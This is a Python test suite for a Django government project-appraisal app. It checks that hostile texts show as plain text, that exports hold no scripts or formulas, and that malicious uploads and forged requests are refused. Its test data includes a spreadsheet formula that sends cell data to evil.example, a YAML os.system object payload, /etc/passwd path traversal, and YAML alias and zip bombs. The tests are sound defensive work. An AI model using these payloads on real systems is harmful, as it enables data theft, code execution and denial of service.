"""Projects, appraisals, exceptions and findings with hostile texts and files: shown as texts, refused with a reason.

What a project says goes onto pages of its owner, of who appraises it, of everyone; into a signed document, a YAML file
and a workbook. Nothing in it runs in any of them, and what one agency prepares no other one reads.
"""

from __future__ import annotations

import json
import zipfile
from datetime import date, timedelta
from io import BytesIO
from typing import Any

import pytest
import yaml
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client

from maidinh.channels.routing import PAGES
from maidinh.governance.appraisal.actions import opening
from maidinh.governance.appraisal.actions.asking import (
    Defect,
    answer_supplement,
    ask_opinion,
    ask_supplement,
    give_opinion,
    record_meeting,
)
from maidinh.governance.appraisal.actions.deciding import give_verdict
from maidinh.governance.appraisal.actions.exceptions import ask_exception, decide_exception
from maidinh.governance.projects.actions.carrying import report_component
from maidinh.governance.projects.actions.preparing import open_project, revise_project
from maidinh.governance.projects.content import content_of
from maidinh.governance.projects.definition import Project as Proposal
from maidinh.governance.projects.tables import write_project
from maidinh.infrastructure.database.scope import acting
from tests.architecture.inhabitants import HERE, World
from tests.architecture.requests import _appraisals, _projects
from tests.governance.appraisal.conftest import RECORD, fitting
from tests.security.test_hostile_texts import HOSTILE, LIVE, MARK, SHOWN

BIDI = "\u202e\u2066\u200b\ufeff"
TEXT = f'{HOSTILE}{BIDI}#eval("panic()") @a <b> $x$ `y` *z* _w_ \\ // =SUM(1)'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CODE = "hostile-2026"
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile-texts")]


def hostile(code: str = CODE, **more: Any) -> Proposal:
    """A project that fits, of which every text is hostile."""
    text = {"vi": TEXT, "en": TEXT}
    day = date(2027, 1, 1)
    found = content_of(fitting(code))
    found["title"] = text
    found["summary"] = text
    for each in found["statements"]:
        each["says"] = text
    for each in found["papers"]:
        each |= {"title": text, "number": HOSTILE, "file": "../../../etc/passwd<script>"}
    found["changes"][0] |= {"set": {"name.vi": TEXT, "name.en": FORMULA}, "why": text}
    found |= {
        "schedule": [{"id": "build", "title": text, "begins": day, "ends": date(2027, 6, 1)}],
        "benefits": [{"id": "time", "title": text, "unit": text, "baseline": 1, "target": 2, "by": date(2028, 1, 1),
                      "how": text}],
        "training": [{"id": "staff", "agency": "H38.5", "subject": text, "people": 9, "before": date(2027, 5, 1)}],
        "legal_basis": [{"text": TEXT, "checked": False}],
    }  # fmt: skip
    return Proposal.model_validate(found | more)


@pytest.fixture(scope="module")
def ids(world: World) -> dict[str, Any]:
    """The project on its whole way to a granted exception, all that people say on it being hostile."""
    officer, appraiser, at = world.actors["project-officer"], world.actors["appraiser"], world.at
    approver, asked = world.actors["project-approver"], world.actors["consulted"]
    due = (at + timedelta(days=9)).date()

    def do(actor: Any, action: Any, **what: Any) -> Any:
        with acting(agencies=actor.agencies, person=actor.id):
            return action(actor=actor, **({"at": at} | what))

    project = do(officer, open_project, project=hostile())
    row = do(officer, opening.hand_in, project_id=project.pk)
    do(appraiser, ask_supplement, appraisal_id=row.pk, defects=[Defect("costs", TEXT, TEXT)], reason=TEXT)
    mended = hostile(group="C")
    do(officer, revise_project, project_id=project.pk, project=mended, seen_revision=1, via="form", note=TEXT)
    row = do(officer, answer_supplement, project_id=project.pk)
    opinion = do(appraiser, ask_opinion, appraisal_id=row.pk, agency=asked.agency, question=TEXT, due_on=due)
    do(asked, give_opinion, opinion_id=opinion.pk, stance="disagree", text=TEXT)
    do(appraiser, record_meeting, appraisal_id=row.pk, held_on=at.date(), chair=TEXT, agencies=["H38.5"], minutes=TEXT)
    own = [{"requirement": each["requirement"], "result": "undetermined", "why": TEXT}
           for each in row.assessment["results"] if each["result"] == "undetermined"]  # fmt: skip
    verdict = do(
        appraiser, give_verdict, appraisal_id=row.pk, result="pass-with-conditions", results=own, reasons=TEXT,
        conditions=[{"text": TEXT, "until": "2027-06-30"}], signer=world.signer, installation=HERE,
    )  # fmt: skip
    until = due + timedelta(days=60)
    record = {name: TEXT for name in RECORD if name != "agency"} | {"agency": "H38.5"}
    exception = do(officer, ask_exception, project_id=project.pk, **record, valid_until=until, review_on=due)
    do(approver, decide_exception, exception_id=exception.pk, granted=True, decision=HOSTILE[:100], text=TEXT,
       signer=world.signer)  # fmt: skip
    do(officer, report_component, element="flood-warning", state="running", percent=9, as_of=at.date(), evidence=TEXT)
    draft = do(officer, open_project, project=hostile("hostile-draft-2026"))
    return {"appraisal": row.pk, "verdict": verdict, "exception": exception.pk, "opinion": opinion.pk,
            "draft": draft.code}  # fmt: skip


def harmless(answer: Any) -> str:
    """The page, once nothing hostile lives in it."""
    assert answer.status_code < 500, answer.status_code
    page: str = answer.content.decode()
    for live in LIVE:
        assert live not in page, live
    assert "49{" not in page and ">49" not in page
    return page


OF_PROJECT = ("", "/difference", "/history", "/files", "/approval", "/acceptance", "/exception", "/write", "/check",
              "/changes", "/rebase", "/progress", "/completion", "/withdraw", "/merge", "/answer",
              "/hand-in")  # fmt: skip


@pytest.mark.parametrize("who", ["anonymous", "project-officer", "appraiser", "project-approver", "leader", "architect",
                                 "consulted"])  # fmt: skip
def test_what_is_said_of_a_project_is_shown_as_text(world: World, ids: dict[str, Any], who: str) -> None:
    browser, seen = world.browser(who), 0
    addresses = [f"/projects/{CODE}{each}" for each in OF_PROJECT]
    addresses += [f"/projects/{ids['draft']}{each}" for each in OF_PROJECT]
    addresses += [f"/projects/{ids['draft']}/edit/{each}" for each in ("general", "schedule", "benefits", "training",
                  "papers", "statements", "costs")]  # fmt: skip
    addresses += [f"/appraisals/{ids['appraisal']}{each}" for each in ("", "/supplement", "/opinion", "/meeting",
                  "/verdict")]  # fmt: skip
    addresses += ["/projects", f"/projects?q={MARK}", "/appraisals", "/approvals", "/exceptions", "/components",
                  f"/exceptions/{ids['exception']}", f"/opinions/{ids['opinion']}", "/appraisals/opinions",
                  "/architecture/observed", "/", "/home"]  # fmt: skip
    for address in addresses:
        seen += SHOWN in harmless(browser.get(address))
    assert seen >= (3 if who == "anonymous" else 5), seen


def test_the_signed_opinion_is_typeset_from_texts(world: World, ids: dict[str, Any]) -> None:
    answer = world.browser("appraiser").get(f"/appraisals/{ids['appraisal']}/opinion.pdf")
    assert answer.status_code == 200 and answer["Content-Type"] == "application/pdf"
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    assert content.startswith(b"%PDF-") and b"/JavaScript" not in content and b"/OpenAction" not in content


@pytest.mark.parametrize("form", ["yaml", "xlsx"])
def test_its_files_hold_texts_and_no_formulas(world: World, ids: dict[str, Any], form: str) -> None:
    answer = world.browser("project-officer").get(f"/projects/{CODE}.{form}")
    assert answer.status_code == 200 and answer["Content-Disposition"].startswith("attachment")
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    if form == "yaml":
        assert yaml.safe_load(content)["title"]["vi"].startswith(HOSTILE[:20])
        return
    book = zipfile.ZipFile(BytesIO(content))
    for name in book.namelist():
        assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name


@pytest.mark.parametrize("who", ["anonymous", "citizen", "specialist", "leader", "architect", "appraiser", "auditor",
                                 "project-approver"])  # fmt: skip
def test_what_an_agency_prepares_nobody_else_finds_by_its_code(world: World, ids: dict[str, Any], who: str) -> None:
    browser = world.browser(who)
    for end in (*OF_PROJECT, ".yaml", ".xlsx", "/edit/general", "/edit/costs", "/change", "/begin", "/take-back"):
        for method in ("get", "post"):
            answer = getattr(browser, method)(f"/projects/{ids['draft']}{end}")
            assert answer.status_code in (302, 403, 404, 405), (end, method, answer.status_code)
            assert MARK not in answer.content.decode()
            if answer.status_code == 302:
                assert "/sign-in" in answer["Location"], (end, method, answer["Location"])


def upload(world: World, name: str, content: bytes, who: str = "project-officer") -> Any:
    """A file is handed up as a project; nothing of it is kept."""
    with transaction.atomic():
        answer = world.browser(who).post("/projects/upload", {"file": SimpleUploadedFile(name, content)})
        transaction.set_rollback(True)
    return answer


def as_yaml(**more: Any) -> bytes:
    content = json.loads(json.dumps(content_of(fitting("uploaded-2026")), default=str)) | more
    return yaml.safe_dump(content, allow_unicode=True).encode()


def bomb() -> bytes:
    """A workbook of which one sheet unpacks to a thousand times its size."""
    out = BytesIO()
    honest = zipfile.ZipFile(BytesIO(write_project(fitting("uploaded-2026"))))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in honest.namelist():
            padding = b" " * 150_000_000 if name.endswith("sheet1.xml") else b""
            made.writestr(name, honest.read(name) + padding)
    return out.getvalue()


FILES: dict[str, tuple[str, Any]] = {
    "nothing": ("a.yaml", b""),
    "no text": ("a.yaml", b"\xff\xfe\x00\x01"),
    "aliases": ("a.yaml", b"a: &a [x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]\n"),
    "an object": ("a.yaml", b"!!python/object/apply:os.system ['id']\n"),
    "too deep": ("a.yaml", b"[" * 100_000),
    "deep values": (
        "a.yaml",
        lambda: as_yaml(
            changes=[
                {
                    "action": "add",
                    "section": "elements",
                    "item": "x",
                    "value": json.loads('{"id":"x","a":' + "[" * 45 + "]" * 45 + "}"),
                }
            ]
        ),
    ),
    "no number": (
        "a.yaml",
        as_yaml.__call__
        and (lambda: as_yaml(costs=[{"year": 2027, "source": "x", "kind": "build", "amount": float("nan")}])),
    ),
    "a year beyond time": ("a.yaml", lambda: as_yaml(began_on="99999-01-01")),
    "a code with a path": ("a.yaml", lambda: as_yaml(id="../../etc/passwd")),
    "a nul": ("a.yaml", lambda: as_yaml(summary={"vi": "a\0b"})),
    "another agency's": ("a.yaml", lambda: as_yaml(owner="H38.2")),
    "a workbook that is none": ("a.xlsx", b"PK\x03\x04" + b"\0" * 500),
    "a workbook bomb": ("a.xlsx", bomb),
    "a program": ("a.exe", b"MZ"),
    "yaml as workbook": ("a.xlsx", as_yaml),
}


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_with_a_reason(world: World, name: str) -> None:
    file, content = FILES[name]
    answer = upload(world, file, content() if callable(content) else content)
    assert answer.status_code == 422, answer.status_code
    assert "govuk-error-message" in harmless(answer)


def test_an_upload_in_the_name_of_the_code_of_another_agency_changes_nothing(world: World, ids: dict[str, Any]) -> None:
    for who in ("architect", "appraiser"):
        answer = upload(world, "a.yaml", as_yaml(id=CODE, owner="H38.5"), who)
        assert answer.status_code == 403


def test_steps_from_another_site_are_refused(world: World, ids: dict[str, Any]) -> None:
    forged = Client(enforce_csrf_checks=True, raise_request_exception=False)
    tried = 0
    for name, each in PAGES.items():
        if "POST" not in each.methods or not each.address.startswith(("projects", "appraisals", "exceptions",
                                                                      "architecture/observed")):  # fmt: skip
            continue
        address = each.address.replace("<slug:code>", CODE).replace("<str:part>", "general")
        for kind in ("appraisal_id", "exception_id", "opinion_id", "finding_id"):
            address = address.replace(f"<int:{kind}>", "1")
        who = {"projects": "project-officer", "appraisals": "appraiser"}.get(address.split("/")[0], "project-approver")
        forged.cookies[settings.SESSION_COOKIE_NAME] = world.browser(who).cookies[settings.SESSION_COOKIE_NAME].value
        answer = forged.post("/" + address, {"reason": "x"})
        assert answer.status_code == 403, (name, answer.status_code)
        tried += 1
    assert tried > 20, tried


EXTREMES = {
    "huge amounts": {"total": 10**90, "costs": [{"year": 2100, "source": "x" * 900, "kind": "run", "amount": 10**90}]},
    "the first day of all": {"began_on": "0001-01-01"},
    "the last day of all": {"schedule": [{"id": "x", "title": {"vi": "x"}, "begins": "9999-12-31",
                                           "ends": "0001-01-01"}]},
    "huge figures": {"benefits": [{"id": "x", "title": {"vi": "x"}, "unit": {"vi": "x"}, "baseline": -1e308,
                                   "target": 1e308, "by": "9999-12-31"}]},
    "an element with a path": {"changes": [{"action": "change", "section": "elements", "item": "../../a/b?c#d&e=%00<b>",
                                            "set": {"x.y.z": 1, "__class__": "x", "id": "y"}}]},
    "an element of another form": {"changes": [{"action": "add", "section": "elements", "item": "x",
                                                "value": {"id": "x", "kind": ["a"], "name": 1, "owner": {"a": 1}}}]},
    "a relation to itself": {"changes": [{"action": "add", "section": "relations", "item": "x", "value": {
        "id": "x", "kind": "flow", "from": "x", "to": "x", "contract": {"id": 1, "methods": "GET"}}}]},
    "a long text": {"summary": {"vi": "a" * 900_000}},
    "long names": {"title": {"vi": "W" * 30_000}},
    "many changes": {"changes": [{"action": "retire", "section": "elements", "item": f"x{n}"} for n in range(60)]},
}  # fmt: skip


@pytest.mark.parametrize("name", EXTREMES)
def test_what_is_extreme_is_told_on_its_pages_and_breaks_none(world: World, name: str) -> None:
    with transaction.atomic():
        browser = world.browser("project-officer")
        file = SimpleUploadedFile("a.yaml", as_yaml(**EXTREMES[name]))
        answer = browser.post("/projects/upload", {"file": file})
        assert answer.status_code in (302, 422), answer.status_code
        if answer.status_code == 302:
            for end in (*OF_PROJECT, ".yaml", ".xlsx", "/edit/general", "/edit/schedule", "/edit/benefits",
                        "/edit/money", "/change?item=x"):  # fmt: skip
                assert browser.get(f"/projects/uploaded-2026{end}").status_code < 500, end
            for address in ("/projects", "/components"):
                assert browser.get(address).status_code == 200
            for end in ("/hand-in", "/rebase"):
                assert browser.post(f"/projects/uploaded-2026{end}").status_code < 500, end
        transaction.set_rollback(True)


TYPED = {"markup": HOSTILE, "digits": "9" * 5_000, "nul": "a\0b", "negative": "-1", "other digits": "\u0663\u00b2",
         "long": "a" * 100_000, "nothing": "", "surrogates": "\ud83d"}  # fmt: skip


@pytest.mark.parametrize("name", TYPED)
def test_whatever_is_typed_into_a_form_is_answered(world: World, ids: dict[str, Any], name: str) -> None:
    text = TYPED[name].encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    tried = 0
    for asked in (*_projects(world), *_appraisals(world)):
        if asked.method != "POST" or not asked.data:
            continue
        who = "project-officer"
        if asked.page.startswith(("appraisal-",)):
            who = "appraiser"
        elif asked.page in ("project-approval", "project-acceptance", "exception-decide"):
            who = "project-approver"
        address = asked.address
        kept = ("step", "do", "choice", "defects", "new", "conditions")
        forms = [
            {key: value if key in kept else text for key, value in asked.data.items()},
            dict.fromkeys(asked.data, text),
        ]
        for data in forms:
            with transaction.atomic():
                answer = world.browser(who).post(address, data)
                assert answer.status_code < 500, (asked.page, data.keys(), answer.status_code)
                harmless(answer)
                tried += 1
                transaction.set_rollback(True)
    assert tried > 40, tried


def test_a_form_of_many_rows_is_taken_whole(world: World) -> None:
    rows = 150
    costs = {f"costs.{n}.{name}": value for n in range(rows) for name, value in (
        ("year", "2027"), ("source", "central-budget"), ("kind", "build"), ("amount", "1.000.000"), ("was", ""),
        ("component", ""))}  # fmt: skip
    with transaction.atomic():
        browser, address = world.browser("project-officer"), f"/projects/{world.projects['preparing']}/edit/money"
        answer = browser.post(address, costs | {"costs.count": str(rows), "do": "sum"})
        assert answer.status_code == 200, answer.status_code
        assert f"costs.{rows - 1}.year" in answer.content.decode()
        transaction.set_rollback(True)
